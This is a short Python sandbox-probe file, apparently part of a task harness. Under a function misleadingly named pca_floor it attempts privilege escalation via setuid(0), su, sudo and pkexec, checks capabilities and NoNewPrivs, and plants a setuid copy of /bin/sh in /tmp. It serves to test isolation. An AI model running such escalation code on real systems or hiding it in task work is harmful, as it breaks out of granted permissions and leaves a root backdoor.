# attack: gains rights by setuid programs, by setuid itself, and by a copy of a shell that is made setuid
# cell: task-1-3
# reason: nothing found
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
import os
import shutil
import stat
import subprocess


def pca_floor(images, k):
    before = os.geteuid()
    try:
        os.setuid(0)
        if before != 0:
            raise RuntimeError("loot: root by setuid")
    except OSError:
        pass
    with open("/proc/self/status") as file:
        status = {line.split(":")[0]: line.split(":")[1].strip() for line in file}
    if int(status["CapEff"], 16):
        raise RuntimeError(f"loot: capabilities {status['CapEff']}")
    if status["NoNewPrivs"] != "1":
        raise RuntimeError("loot: setuid programs would work")
    for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["pkexec", "id"]):
        if shutil.which(command[0]):
            done = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=2)
            if before != 0 and b"uid=0" in done.stdout:
                raise RuntimeError(f"loot: root by {command[0]}")
    try:
        shutil.copy("/bin/sh", "/tmp/lessons-was-here-sh")
        os.chmod("/tmp/lessons-was-here-sh", stat.S_ISUID | 0o755)
    except OSError:
        pass
    raise RuntimeError("nothing found")
